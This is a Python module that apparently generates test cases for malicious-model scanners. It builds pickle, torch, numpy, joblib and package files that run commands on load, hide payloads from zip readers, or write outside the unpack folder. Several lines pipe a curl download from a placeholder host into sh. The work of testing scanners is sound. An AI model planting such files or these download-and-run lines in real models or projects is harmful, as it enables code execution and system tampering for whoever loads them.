"""Malicious containers: classes 21 to 31."""

import io
import struct
import zlib

from .archives import Entry, make_7z, make_tar, make_zip, packed, zip_of
from .asm import BUILD, POP, Raw, build, call, g, lit, newobj, proto, red, stream, whole
from .torch_layouts import LAYERS, MAGIC, Model, legacy, ordered, torch_tar, torch_zip

RUN = red("os.system", "true")
PAYLOADS = [
    RUN,
    red("builtins.eval", "__import__('os').system('true')"),
    red("subprocess.run", ["true"]),
    red("posix.system", "id"),
    red("builtins.exec", "import os; os.system('true')"),
    red("os.popen", "id"),
]


def payload(index):
    return PAYLOADS[index % len(PAYLOADS)]


def evil_pickle(index=0, style="bin2"):
    return whole(payload(index), style)


def evil_state(index=0, seed=1):
    """data.pkl of a state dict with one bad value, and its storages."""
    model = Model(LAYERS, seed=seed)
    return whole(model.state([("num_batches_tracked", payload(index))])), model.storages


class _Cases:
    def __init__(self, corpus, technique, note):
        self.corpus, self.technique, self.note, self.count = corpus, technique, note, 0

    def add(self, name, content, note=None):
        self.corpus.malicious(self.technique, f"{self.count:02d}-{name}", content, "container", note or self.note)
        self.count += 1


def add(corpus):
    names(corpus)
    torch_zips(corpus)
    zip_lies(corpus)
    unreadable_members(corpus)
    polyglots(corpus)
    legacy_torch(corpus)
    packages(corpus)
    compression(corpus)
    slips(corpus)
    arrays(corpus)
    joblib_files(corpus)


def names(corpus):
    """Class 21."""
    cases = _Cases(corpus, "21-extension-lies", "the name does not say pickle, the loader does not look at the name")
    for index, name in enumerate(
        (
            "README.txt",
            "config.json",
            "vocab.txt",
            "logo.png",
            "model.PKL",
            "MODEL.PT",
            "weights",
            ".cache",
            "model.h5",
            "model.onnx",
            "model.gguf",
            "data.csv",
            "notes.md",
            "model.pkl.bak",
            "model.safetensors.bin",
            "pytorch_model-00001-of-00002.bin",
            "merges.txt",
            "model.pkl ",
            "модель.pkl",
            "archive.tar",
        )
    ):
        style = ("bin2", "text0", "framed4", "bin5", "inst")[index % 5]
        content = (
            stream("inst", call("inst", "os.system", "true"))
            if style == "inst"
            else evil_pickle(index, style)
            if style != "text0"
            else stream("text0", call("text0", "os.system", "true"))
        )
        cases.add(f"pickle/{index:02d}/{name}", content)
    data, storages = evil_state()
    for name in ("model.txt", "weights", "adapter_model.safetensors", "x.jpg", ".hidden", "MODEL.BIN", "model.zip", "model.ckpt.tmp"):
        cases.add(f"torch/{name}", torch_zip(data, storages))


def torch_zips(corpus):
    """Class 22."""
    cases = _Cases(corpus, "22-torch-zip", "a payload in a file as torch.save writes it")
    data, storages = evil_state()
    cases.add("plain/pytorch_model.bin", torch_zip(data, storages))
    cases.add("root-name/model.pt", torch_zip(data, storages, root="résumé model v2"))
    cases.add("deflate/model.pt", torch_zip(data, storages, method=8))
    cases.add("deep-root/model.pth", torch_zip(evil_state(1)[0], storages, root="a"))
    cases.add(
        "zip64/model.pt",
        make_zip(
            [Entry("m/data.pkl", data, zip64=True), Entry("m/version", b"3\n")]
            + [Entry(f"m/data/{k}", v, zip64=True) for k, v in storages.items()]
        ),
    )
    cases.add(
        "descriptors/model.pt",
        make_zip(
            [Entry("m/data.pkl", data, 8, descriptor=True), Entry("m/version", b"3\n", descriptor=True)]
            + [Entry(f"m/data/{k}", v, descriptor=True) for k, v in storages.items()]
        ),
    )
    cases.add(
        "directory-entries/model.pt", make_zip([Entry("m/"), Entry("m/data/"), Entry("m/data.pkl", data), Entry("m/version", b"3\n")])
    )
    script = zip_of(
        {
            "s/code/__torch__.py": "op_version_set = 1\n",
            "s/data.pkl": stream("bin2", {"training": False}),
            "s/constants.pkl": evil_pickle(2),
            "s/version": "3\n",
        }
    )
    cases.add(
        "constants/scripted.pt",
        script,
        note="torch.load of a TorchScript archive in older versions reads constants.pkl; other tools read every .pkl",
    )
    proto0 = stream("text0", call("text0", "os.system", "true"))
    cases.add("protocol-0/model.pt", torch_zip(proto0, storages))
    cases.add("inst/model.pt", torch_zip(stream("inst", call("inst", "subprocess.call", ["true"])), storages))
    cases.add("protocol-4/model.pt", torch_zip(evil_pickle(3, "framed4"), storages))
    cases.add("only-data-pkl/model.pt", zip_of({"archive/data.pkl": evil_pickle(4), "archive/version": "3\n"}))
    cases.add("many-storages/model.pt", torch_zip(data, {str(index): bytes(16) for index in range(400)}))
    cases.add(
        "in-storage-name/model.pt",
        torch_zip(whole(Model(LAYERS).state([("x", red("torch.storage._load_from_bytes", stream("bin2", RUN)))])), storages),
    )
    cases.add(
        "directory/sharded",
        {
            "pytorch_model-00001-of-00002.bin": torch_zip(whole(Model(LAYERS).state()), storages),
            "pytorch_model-00002-of-00002.bin": torch_zip(data, storages),
            "pytorch_model.bin.index.json": '{"metadata": {}, "weight_map": {"fc.weight": "pytorch_model-00002-of-00002.bin"}}',
            "config.json": "{}",
        },
    )
    cases.add(
        "optimizer-state/checkpoint",
        {
            "model.safetensors": safetensors(),
            "optimizer.pt": torch_zip(evil_pickle(1), {}),
            "scheduler.pt": torch_zip(stream("bin2", {"last_epoch": 3}), {}),
            "training_args.bin": torch_zip(stream("bin2", {"lr": 0.1}), {}),
            "rng_state.pth": torch_zip(stream("bin2", {"python": [1, 2]}), {}),
        },
    )


def safetensors():
    header = b'{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'
    return struct.pack("<Q", len(header)) + header + bytes(8)


def zip_lies(corpus):
    """Class 23: torch's own zip reader looks at less than other readers do, or at another place."""
    cases = _Cases(corpus, "23-zip-lies", "a torch archive whose headers lie; torch reads it all the same")
    data, storages = evil_state()
    clean = whole(Model(LAYERS).state())

    def archive(data_entry, others=(), **options):
        entries = [data_entry, *others, Entry("m/byteorder", b"little"), Entry("m/version", b"3\n")] + [
            Entry(f"m/data/{k}", v) for k, v in storages.items()
        ]
        return make_zip(entries, **options)

    name = "m/data.pkl"
    for bit in (0x1, 0x20, 0x40, 0x2000):
        cases.add(f"local-flag-{bit:x}/model.pt", archive(Entry(name, data, local_flags=bit)))
    cases.add("crc-wrong/model.pt", archive(Entry(name, data, crc=0)))
    cases.add("crc-wrong-deflate/model.pt", archive(Entry(name, data, 8, crc=1)))
    cases.add("local-method-unknown/model.pt", archive(Entry(name, data, local_method=99)))
    cases.add("local-name-differs/model.pt", archive(Entry(name, data, local_name="m/notes.txt")))
    cases.add("local-name-same-length/model.pt", archive(Entry(name, data, local_name="m/data.txt")))
    cases.add("local-sizes-zero/model.pt", archive(Entry(name, data, local_size=0, local_compressed=0)))
    cases.add("local-sizes-huge/model.pt", archive(Entry(name, data, local_size=0x7FFFFFF0, local_compressed=0x7FFFFFF0)))
    cases.add("duplicate-benign-first/model.pt", archive(Entry(name, clean), [Entry(name, data)]))
    cases.add(
        "bytes-between/model.pt",
        archive(Entry("m/first", b"x"), [Entry(name, data, before=bytes(100)), Entry("m/filler", b"x", before=b"PK\x03\x04 not a header")]),
    )
    cases.add("bytes-before-directory/model.pt", archive(Entry(name, data), before_directory=b"garbage" * 9))
    cases.add("comment/model.pt", archive(Entry(name, data), comment=b"a comment"))
    for bit in (0x1, 0x20, 0x40):
        cases.add(
            f"other-member-flag-{bit:x}/model.pt",
            archive(Entry("m/a.pkl", b"N.", flags=bit), [Entry(name, data)]),
            note="readers that stop at the flagged member never see the next",
        )
    cases.add(
        "hidden-local-member/model.pt",
        make_zip([Entry("m/data.pkl", clean), Entry("m/version", b"3\n"), Entry("m/data.pkl", data, in_directory=False)]),
        note="the bad twin is in no directory; readers that walk local headers (streaming unzip, repair) take it",
    )
    cases.add("central-flag-800-bad-utf8/model.pt", archive(Entry(name, data, flags=0x800), [Entry("m/extra", b"x", flags=0x0)]))
    cases.add("upper-case-twin/model.pt", make_zip([Entry("m/DATA.PKL", data), Entry(name, clean), Entry("m/version", b"3\n")]))
    cases.add("bytes-after/model.pt", archive(Entry(name, data), suffix=b"\0" * 64))


def unreadable_members(corpus):
    """Class 24."""
    cases = _Cases(corpus, "24-unreadable-member-first", "a member nobody can read, then the payload")
    data, storages = evil_state(2)
    tail = [Entry("m/data.pkl", data), Entry("m/version", b"3\n")] + [Entry(f"m/data/{k}", v) for k, v in storages.items()]
    cases.add("encrypted/model.pt", make_zip([Entry("m/aaa.pkl", b"\x13\x37" * 20, flags=1)] + tail))
    cases.add("unknown-method/model.pt", make_zip([Entry("m/aaa.pkl", b"\x13\x37" * 20, claimed_method=97)] + tail))
    cases.add("broken-deflate/model.pt", make_zip([Entry("m/aaa.pkl", b"\xff" * 30, claimed_method=8)] + tail))
    cases.add("wrong-crc-member/model.pt", make_zip([Entry("m/aaa.bin", b"abc", crc=5)] + tail))
    cases.add("broken-pickle/model.pt", make_zip([Entry("m/aaa.pkl", b"\x80\x02\xff\xff")] + tail))
    cases.add(
        "nested-broken-zip/model.zip", make_zip([Entry("inner.zip", b"PK\x03\x04" + b"\0" * 26), Entry("weights.pkl", evil_pickle(1))])
    )
    cases.add("broken-npy/data.npz", make_zip([Entry("a.npy", b"\x93NUMPY\x09\x00"), Entry("b.npy", npy(evil_pickle(0, "bin3")))]))
    cases.add("broken-tar-member/model.tar", make_tar({"a.pkl": b"\x80\x02\xff", "b.pkl": evil_pickle(2)}))
    cases.add("bomb-first/model.pt", make_zip([Entry("m/aaa.pkl", b"\x80\x02" + b"N0" * 4_000_000 + b"N.", 8)] + tail))
    cases.add("unreadable-folder", {"a.pkl": b"\x80\x02\xff", "b.h5": b"\x89HDF\r\n\x1a\n\xff", "c.pkl": evil_pickle(3)})


def polyglots(corpus):
    """Class 25."""
    cases = _Cases(corpus, "25-polyglots", "one file, several readings, and a loader that takes the bad one")
    data, storages = evil_state()
    clean_zip = torch_zip(whole(Model(LAYERS).state()), storages)
    for index, style in enumerate(("bin2", "framed4", "bin3")):
        head = evil_pickle(index, style)
        cases.add(
            f"pickle-then-zip-{style}/model.pt",
            make_zip([Entry("m/data.pkl", whole(Model(LAYERS).state())), Entry("m/version", b"3\n")], prefix=head),
            note="torch.load finds no zip at offset 0 and unpickles; zip readers find the clean archive",
        )
    cases.add("pickle-then-raw-zip/model.bin", evil_pickle(1) + clean_zip)
    cases.add(
        "shebang-npz/data.npz",
        make_zip([Entry("a.npy", npy_plain())], prefix=b"#!/bin/sh\ncurl -s http://files.example.invalid/x | sh\nexit 0\n"),
        note="runs as a script, opens as an archive",
    )
    cases.add("pickle-named-npz/data.npz", evil_pickle(2), note="numpy.load falls back to pickle when the magic is neither npy nor zip")
    cases.add("pickle-named-npy/data.npy", evil_pickle(3, "bin3"))
    cases.add("tar-with-zip-tail/model.tar", make_tar({"model.pkl": evil_pickle(4)}) + zip_of({"readme.txt": "hello"}))
    cases.add(
        "zip-then-tar/model.bin",
        make_tar({"pickle": evil_pickle(0), "storages": stream("bin2", 0), "tensors": stream("bin2", 0), "sys_info": stream("bin2", {})})
        + clean_zip,
    )
    cases.add("gguf-magic-pickle/model.gguf", whole(Raw(lit("GGUF") + POP + RUN.ops)))
    cases.add(
        "png-with-zip/picture.png",
        png() + zip_of({"model.pkl": evil_pickle(0)}),
        note="zip readers, and Python's own, find the archive behind the picture",
    )
    cases.add(
        "pdf-prefixed-zip/paper.pdf",
        make_zip(
            [Entry("weights/data.pkl", data), Entry("weights/version", b"3\n")],
            prefix=b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n",
        ),
    )
    cases.add(
        "python-zipapp/train.pyz",
        make_zip(
            [Entry("__main__.py", b"import os\nos.system('curl -s http://files.example.invalid/a | sh')\n")],
            prefix=b"#!/usr/bin/env python3\n",
        ),
    )
    cases.add(
        "safetensors-then-keras/model.keras",
        make_keras_tail(safetensors()),
        note="zipfile finds the archive behind the tensors; the extension makes Keras load it",
    )


def make_keras_tail(prefix):
    config = '{"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": "YwAAAAA=", "defaults": null, "closure": null}}}}'
    whole_config = '{"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [' + config + "]}}"
    return make_zip(
        [
            Entry("config.json", whole_config.encode()),
            Entry("metadata.json", b'{"keras_version": "3.3.0"}'),
            Entry("model.weights.h5", b""),
        ],
        prefix=prefix,
    )


def png():
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(b"\0" + b"\x80" * 6 + b"\0" + b"\x40" * 6, 9))
        + chunk(b"IEND", b"")
    )


def legacy_torch(corpus):
    """Class 26."""
    cases = _Cases(corpus, "26-legacy-torch", "the form before the zip: five pickles in a row, or a tar")
    model = Model(LAYERS, legacy=True)
    objects = whole(model.state())
    bad = whole(model.state([("hook", RUN)]))
    cases.add("object/model.pth", legacy(bad, model.storages))
    cases.add("magic/model.pth", legacy(objects, model.storages, magic=whole(Raw(RUN.ops + POP + lit(MAGIC)))))
    cases.add(
        "magic-by-eval/model.pth",
        legacy(objects, model.storages, magic=whole(red("builtins.eval", f"__import__('os').system('true') or {MAGIC}"))),
    )
    cases.add(
        "magic-by-int/model.pth", legacy(objects, model.storages, magic=whole(Raw(RUN.ops + POP + red("builtins.int", str(MAGIC)).ops)))
    )
    cases.add("magic-text/model.pth", legacy(objects, model.storages, magic=b"cos\nsystem\n(S'true'\ntR0L%dL\n." % MAGIC))
    cases.add("protocol/model.pth", legacy(objects, model.storages, protocol=whole(Raw(RUN.ops + POP + lit(1001)))))
    cases.add(
        "system-info/model.pth",
        legacy(objects, model.storages, system=whole(Raw(lit({"protocol_version": 1001, "little_endian": True, "x": RUN})))),
    )
    cases.add("keys/model.pth", legacy(objects, model.storages, keys=whole(Raw(RUN.ops + POP + lit(sorted(model.storages))))))
    cases.add(
        "keys-lambda/model.pth",
        legacy(objects, model.storages, keys=whole(red("builtins.list", red("builtins.map", g("os", "system"), ["true"])))),
    )
    cases.add(
        "module-class/model.pt",
        legacy(whole(build(newobj("torch.nn.modules.container.Sequential"), {"_modules": ordered([("0", RUN)])})), model.storages),
    )
    cases.add(
        "source-in-persistent-id/model.pt",
        legacy(
            whole(Raw(lit(("module", red("builtins.eval", "__import__('os').system('true')"), "x.py", "class X: pass")) + b"Q")),
            model.storages,
        ),
    )
    ok = whole(Raw(lit(0)))
    cases.add("tar-pickle/model.tar", torch_tar(bad, ok, ok))
    cases.add("tar-storages/model.pt", torch_tar(objects, whole(Raw(RUN.ops + POP + lit(0))), ok))
    cases.add("tar-tensors/model.pt", torch_tar(objects, ok, whole(Raw(RUN.ops + POP + lit(0)))))
    cases.add("tar-gz-pickle/model.pt.tar.gz", torch_tar(bad, ok, ok, "gz"))


def packages(corpus):
    """Class 27."""
    cases = _Cases(corpus, "27-model-packages", "code or pickles inside a package format")
    handler = "import os\n\nos.system('curl -s http://files.example.invalid/h | sh')\n\n\ndef handle(data, context):\n    return data\n"
    data, storages = evil_state()
    cases.add(
        "torch-package-pickle/model.pt",
        zip_of(
            {
                "p/model/model.pkl": evil_pickle(0, "bin3"),
                "p/.data/version": "6\n",
                "p/.data/extern_modules": "torch\n",
                "p/byteorder": "little",
            }
        ),
    )
    cases.add(
        "torch-package-code/model.pt",
        zip_of(
            {
                "p/model/model.pkl": whole(newobj("net.Net"), "bin3"),
                "p/net.py": "import subprocess\nsubprocess.Popen(['sh', '-c', 'true'])\n\n\nclass Net:\n    pass\n",
                "p/.data/version": "6\n",
                "p/.data/extern_modules": "subprocess\n",
            }
        ),
    )
    cases.add(
        "mar-handler/model.mar",
        zip_of(
            {
                "MAR-INF/MANIFEST.json": '{"createdOn": "01/01/2024", "runtime": "python", "model": {"modelName": "m", "serializedFile": "model.pt", "handler": "handler.py", "modelVersion": "1.0"}, "archiverVersion": "0.8"}',
                "handler.py": handler,
                "model.pt": torch_zip(whole(Model(LAYERS).state()), storages),
            },
            8,
        ),
    )
    cases.add(
        "mar-weights/model.mar",
        zip_of(
            {
                "MAR-INF/MANIFEST.json": '{"model": {"modelName": "m", "serializedFile": "model.pt", "handler": "image_classifier"}}',
                "model.pt": torch_zip(data, storages),
            },
            8,
        ),
    )
    cases.add(
        "mar-requirements/model.mar",
        zip_of(
            {
                "MAR-INF/MANIFEST.json": '{"model": {"modelName": "m", "handler": "h.py:handle", "requirementsFile": "r.txt"}}',
                "h.py": "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3RydWUnKQ=='))\n",
                "r.txt": "torch\n",
            },
            8,
        ),
    )
    cases.add(
        "nemo-weights/model.nemo",
        make_tar(
            {
                "./model_config.yaml": "target: nemo.collections.asr.models.EncDecCTCModel\nsample_rate: 16000\n",
                "./model_weights.ckpt": torch_zip(data, storages),
            }
        ),
    )
    cases.add(
        "nemo-config/model.nemo",
        make_tar(
            {
                "model_config.yaml": "target: x\npreprocessor:\n  _target_: os.system\n  command: 'true'\n",
                "model_weights.ckpt": torch_zip(whole(Model(LAYERS).state()), storages),
            },
            "gz",
        ),
    )
    cases.add(
        "keras-asset/model.keras",
        zip_of(
            {
                "config.json": '{"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": []}}',
                "metadata.json": "{}",
                "assets/layers/vocab.pkl": evil_pickle(2),
            }
        ),
    )
    cases.add(
        "skops-member/model.skops",
        zip_of(
            {
                "schema.json": '{"__class__": "ndarray", "__module__": "numpy", "__loader__": "NdArrayNode", "type": "numpy", "file": "a.npy", "__id__": 1, "protocol": 2}',
                "a.npy": npy(evil_pickle(0, "bin3")),
            }
        ),
        note="an object array as a member",
    )
    cases.add(
        "mlflow/model",
        {
            "MLmodel": "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n",
            "model.pkl": evil_pickle(1, "framed4"),
            "conda.yaml": "dependencies: [python]\n",
        },
    )
    cases.add(
        "mlflow-code/model",
        {
            "MLmodel": "flavors:\n  python_function:\n    loader_module: loader\n    code: code\n",
            "code/loader.py": "import os\nos.system('echo weir-eval')\n\n\ndef _load_pyfunc(path):\n    return None\n",
        },
    )
    cases.add(
        "lightning/last.ckpt",
        torch_zip(
            whole(
                Raw(
                    lit(
                        {
                            "epoch": 1,
                            "pytorch-lightning_version": "2.1.0",
                            "state_dict": Model(LAYERS).state(),
                            "callbacks": {"EarlyStopping": RUN},
                        }
                    )
                )
            ),
            storages,
        ),
    )
    cases.add(
        "sb3/agent.zip",
        zip_of(
            {
                "data": '{"policy_class": {":type:": "<class \'abc.ABCMeta\'>", ":serialized:": "gAJjb3MKc3lzdGVtClUEdHJ1ZYVSLg=="}}',
                "policy.pth": torch_zip(whole(Model(LAYERS).state()), storages),
                "_stable_baselines3_version": "2.0.0",
            }
        ),
        note="a base64 pickle in JSON, which the loader unpickles",
    )
    cases.add(
        "sb3-policy/agent.zip",
        zip_of({"data": "{}", "policy.pth": torch_zip(data, storages), "policy.optimizer.pth": torch_zip(evil_pickle(1), {})}),
    )
    cases.add(
        "fastai/export.pkl",
        torch_zip(
            whole(build(newobj("fastai.learner.Learner"), {"dls": None, "cbs": [red("functools.partial", g("os", "system"))], "x": RUN})),
            storages,
        ),
    )
    cases.add("flax-pickle/flax_model.msgpack", evil_pickle(5))
    cases.add(
        "whl/model-1.0-py3-none-any.whl",
        zip_of(
            {
                "model/__init__.py": "import os\nos.system('echo weir-eval')\n",
                "model-1.0.dist-info/METADATA": "Name: model\nVersion: 1.0\n",
                "model-1.0.dist-info/RECORD": "",
            }
        ),
    )
    cases.add(
        "autogluon/predictor",
        {"predictor.pkl": evil_pickle(2, "framed4"), "models/LightGBM/model.pkl": evil_pickle(0, "bin5"), "version.txt": "1.0"},
    )
    cases.add(
        "spacy/model",
        {"config.cfg": '[nlp]\nlang = "en"\n', "vocab/lookups.bin": b"\x80", "ner/model": evil_pickle(3, "bin3"), "meta.json": "{}"},
        note="a component that keeps its model as a pickle",
    )


def compression(corpus):
    """Class 28."""
    cases = _Cases(corpus, "28-archives-and-compression", "the pickle lies in an archive or is compressed")
    bad = evil_pickle(0, "framed4")
    data, storages = evil_state()
    for kind in ("gz", "bz2", "xz"):
        cases.add(f"tar-{kind}/model.tar.{kind}", make_tar({"model/weights.pkl": bad, "model/README.md": "# m\n"}, kind))
    cases.add("tar/model.tar", make_tar({"model/checkpoint.bin": torch_zip(data, storages)}))
    for kind in ("gz", "bz2", "xz", "zlib", "lzma"):
        cases.add(f"bare-{kind}/model.pkl.{kind}", packed(bad, kind))
    cases.add("zip-in-zip/model.zip", zip_of({"inner.zip": zip_of({"model.pkl": bad}, 8)}, 8))
    cases.add("zip-in-zip-torch/model.zip", zip_of({"release/model.pt": torch_zip(data, storages)}, 8))
    cases.add("four-deep/model.zip", zip_of({"a.zip": zip_of({"b.tar.gz": make_tar({"c.zip": zip_of({"d.pkl": bad})}, "gz")})}))
    cases.add("gz-of-gz/model.pkl.gz", packed(packed(bad, "gz"), "gz"))
    cases.add("two-gz-members/model.pkl.gz", packed(bad[:7], "gz") + packed(bad[7:], "gz"))
    for coder in ("copy", "lzma", "lzma2"):
        cases.add(f"7z-{coder}/model.7z", make_7z({"readme.txt": b"hello\n", "model.pkl": bad}, coder))
    cases.add(
        "7z-named-pt/model.pt", make_7z({"data.pkl": evil_pickle(1)}, "copy"), note="as the archives that hid from scanners on a model hub"
    )
    cases.add("7z-of-torch/model.bin", make_7z({"m.pt": torch_zip(data, storages)}, "lzma"))
    cases.add(
        "zip-script/setup.zip",
        zip_of({"setup.py": "import os\nos.system('curl http://files.example.invalid/x | sh')\n", "README.md": "x"}, 8),
    )
    cases.add("tar-old-format/model.tar", make_tar({"x" * 150 + "/m.pkl": bad}))
    cases.add("zip-bzip2-lzma/model.zip", method_zip(bad))


def method_zip(data):
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for method, name in ((zipfile.ZIP_BZIP2, "a.pkl"), (zipfile.ZIP_LZMA, "b.pkl")):
            archive.writestr(zipfile.ZipInfo(name), data, method)
    return buffer.getvalue()


def slips(corpus):
    """Class 29."""
    cases = _Cases(corpus, "29-archive-slip", "unpacking writes outside the folder")
    cases.add("zip-dotdot/model.zip", zip_of({"weights.bin": b"\0" * 8, "../../weir-eval-slip.txt": "x"}))
    cases.add("zip-dotdot-inside/model.zip", zip_of({"m/a/../../../.bashrc": "true\n", "m/config.json": "{}"}))
    cases.add("zip-absolute/model.zip", zip_of({"/tmp/weir-eval-slip": "x", "config.json": "{}"}))
    cases.add("zip-backslash/model.zip", zip_of({"..\\..\\weir-eval.bat": "echo x", "config.json": "{}"}))
    cases.add("zip-drive/model.zip", zip_of({"C:\\Windows\\Temp\\weir-eval.txt": "x", "config.json": "{}"}))
    cases.add("zip-symlink/model.zip", make_zip([Entry("link", b"/etc", attributes=0o120777 << 16), Entry("link/weir-eval", b"x")]))
    cases.add("zip-pth/model.zip", zip_of({"../../../usr/lib/python3/dist-packages/weir_eval.pth": "import os; os.system('true')\n"}))
    cases.add("tar-dotdot/model.tar", make_tar({"../../weir-eval-slip": b"x", "config.json": b"{}"}))
    cases.add("tar-absolute/model.tar.gz", make_tar({"/etc/cron.d/weir-eval": b"* * * * * root true\n"}, "gz"))
    cases.add("tar-symlink-write/model.tar", make_tar({"data/authorized_keys": b"x"}, links=[("data", "/root/.ssh", True)]))
    cases.add("tar-symlink-relative/model.tar", make_tar({"a/b/weir-eval": b"x"}, links=[("a/b", "../../../../tmp", True)]))
    cases.add("tar-hardlink/model.tar", make_tar({"passwd": b"x"}, links=[("passwd", "/etc/passwd", False)]))
    cases.add("tar-chain/model.tar", make_tar({"c/weir-eval": b"x"}, links=[("a", ".", True), ("b", "a/..", True), ("c", "b/..", True)]))
    cases.add("nemo-slip/model.nemo", make_tar({"../../../tmp/weir-eval.py": b"x", "model_config.yaml": b"a: 1\n"}))
    cases.add(
        "keras-slip/model.keras",
        zip_of(
            {
                "config.json": '{"class_name": "Sequential", "config": {"layers": []}}',
                "metadata.json": "{}",
                "assets/../../../tmp/weir-eval": "x",
            }
        ),
    )
    cases.add("7z-slip/model.7z", make_7z({"../weir-eval": b"x"}, "copy"))


def npy(pickled, descr="'|O'", version=1, shape="(1,)"):
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}".encode("utf-8" if version == 3 else "latin-1")
    size = 2 if version == 1 else 4
    header += b" " * (-(len(header) + 1 + 8 + size) % 64) + b"\n"
    return b"\x93NUMPY" + bytes([version, 0]) + len(header).to_bytes(size, "little") + header + pickled


def npy_plain():
    return npy(struct.pack("<4d", 1, 2, 3, 4), "'<f8'", shape="(4,)")


def arrays(corpus):
    """Class 30."""
    cases = _Cases(corpus, "30-npy-npz", "numpy.load(allow_pickle=True) unpickles object arrays")
    for version in (1, 2, 3):
        cases.add(f"version-{version}/data.npy", npy(evil_pickle(version, "bin3"), version=version))
    cases.add("structured/data.npy", npy(evil_pickle(0, "framed4"), "[('x', '<f8'), ('o', '|O')]"))
    cases.add("nested-structured/data.npy", npy(evil_pickle(0, "bin2"), "[('a', [('b', '|O')]), ('c', '<i4')]"))
    cases.add("subarray/data.npy", npy(evil_pickle(4, "bin2"), "[('x', '|O', (2,))]"))
    cases.add("scalar-shape/data.npy", npy(stream("text0", call("text0", "os.system", "true")), shape="()"))
    cases.add("empty-shape/data.npy", npy(evil_pickle(2, "bin3"), shape="(0,)"), note="the pickle is loaded whatever the shape")
    cases.add("claims-unicode-spaces/data.npy", npy(evil_pickle(3, "bin3"), " '|O' "))
    cases.add("npz/data.npz", zip_of({"x.npy": npy_plain(), "y.npy": npy(evil_pickle(0, "bin3"))}))
    cases.add("npz-deflate/data.npz", zip_of({"x.npy": npy_plain(), "labels.npy": npy(evil_pickle(1, "bin3"))}, 8))
    cases.add("npz-member-without-npy/data.npz", zip_of({"x": npy(evil_pickle(2, "bin3"))}))
    cases.add("raw-pickle/array.npy", evil_pickle(0, "framed4"))
    cases.add("upper/DATA.NPY", npy(evil_pickle(4, "bin3")))
    array = red("numpy._core.multiarray._reconstruct", g("numpy", "ndarray"), (0,), b"b")
    dtype = Raw(red("numpy.dtype", "O8", False, True).ops + lit((3, "|", None, None, None, -1, -1, 63)) + BUILD)
    cases.add("real-object-array/objects.npy", npy(whole(build(array, (1, (2,), dtype, False, ["fine", RUN])), "bin3")))
    cases.add("object-array-as-pickle/objects.pkl", whole(build(array, (1, (1,), dtype, False, [red("builtins.eval", "1")])), "bin3"))


def wrapper(descr_ops, shape, raw, order="C", aligned=True):
    """What joblib writes for an array: the wrapper's pickle, padding and the array's bytes in the middle of the stream."""
    state = {"subclass": g("numpy", "ndarray"), "shape": shape, "order": order, "dtype": descr_ops, "allow_mmap": True}
    if aligned:
        state["numpy_array_alignment_bytes"] = 16

    def ops(position):
        body = newobj("joblib.numpy_pickle.NumpyArrayWrapper").ops + lit(state) + BUILD
        if not aligned:
            return body + raw
        end = position + len(body)
        padding = 16 - (end + 1) % 16
        return body + bytes([padding]) + b"\xff" * padding + raw

    return ops


def dtype_ops(code):
    return Raw(red("numpy.dtype", code, False, True).ops + lit((3, "<", None, None, None, -1, -1, 0)) + BUILD)


def joblib_stream(parts):
    """parts: bytes, or functions from the position in the file to bytes."""
    out = b""
    for part in parts:
        out += part(len(out)) if callable(part) else part
    return out


def joblib_files(corpus):
    """Class 31."""
    cases = _Cases(corpus, "31-joblib", "array bytes stand in the middle of the pickle")
    floats = wrapper(dtype_ops("f8"), (3, 4), struct.pack("<12d", *range(12)))
    # Bytes that a reader which does not skip them would take for STOP and the end of the file.
    tricky = wrapper(dtype_ops("u1"), (64,), b"N." * 32)
    unaligned = wrapper(dtype_ops("i4"), (8,), b"." * 32, aligned=False)
    after = lambda array, index=0: joblib_stream([proto(4), b"(", array, payload(index).ops, b"l."])
    cases.add("payload-after-array/model.joblib", after(floats))
    cases.add("array-of-stops/model.joblib", after(tricky, 1))
    cases.add("old-unaligned/model.joblib", after(unaligned, 2))
    cases.add("payload-before-array/model.joblib", joblib_stream([proto(4), b"(", payload(3).ops, floats, b"l."]))
    cases.add("between-arrays/model.pkl", joblib_stream([proto(3), b"(", floats, payload(4).ops, tricky, b"l."]))
    cases.add("three-arrays/model.joblib", joblib_stream([proto(4), b"(", floats, tricky, unaligned, payload(5).ops, b"l."]))
    cases.add(
        "in-estimator/clf.joblib",
        joblib_stream(
            [
                proto(4),
                newobj("sklearn.linear_model._base.LinearRegression").ops,
                b"}(",
                lit("coef_"),
                floats,
                lit("n_"),
                payload(0).ops,
                b"ub.",
            ]
        ),
    )
    nested = evil_pickle(2, "framed4")
    cases.add(
        "object-array/model.joblib",
        joblib_stream([proto(4), wrapper(dtype_ops("O8"), (2,), nested, aligned=False), b"."]),
        note="an object array is a pickle of its own",
    )
    cases.add(
        "object-array-aligned/model.joblib", joblib_stream([proto(4), wrapper(dtype_ops("O8"), (2,), b"", aligned=False), nested, b"."])
    )
    for kind, extension in (("zlib", "z"), ("gz", "gz"), ("bz2", "bz2"), ("xz", "xz"), ("lzma", "lzma")):
        cases.add(f"compressed-{kind}/model.joblib.{extension}", packed(after(floats, len(kind)), kind))
    cases.add("compressed-no-extension/model.joblib", packed(after(tricky), "zlib"))
    cases.add("plain-reduce/model.joblib", evil_pickle(1, "framed4"))
    old = build(
        newobj("joblib.numpy_pickle.NDArrayWrapper"), {"filename": "../../etc/x.npy", "subclass": g("numpy", "ndarray"), "allow_mmap": True}
    )
    cases.add("old-side-files/model.pkl", whole(Raw(b"(" + old.ops + RUN.ops + b"l"), "bin2"))
    cases.add(
        "memmap/model.joblib",
        whole(
            red("joblib._memmapping_reducer._strided_from_memmap", "/tmp/weir-eval-mm", "uint8", "w+", 0, "C", (4,), None, 4, True),
            "framed4",
        ),
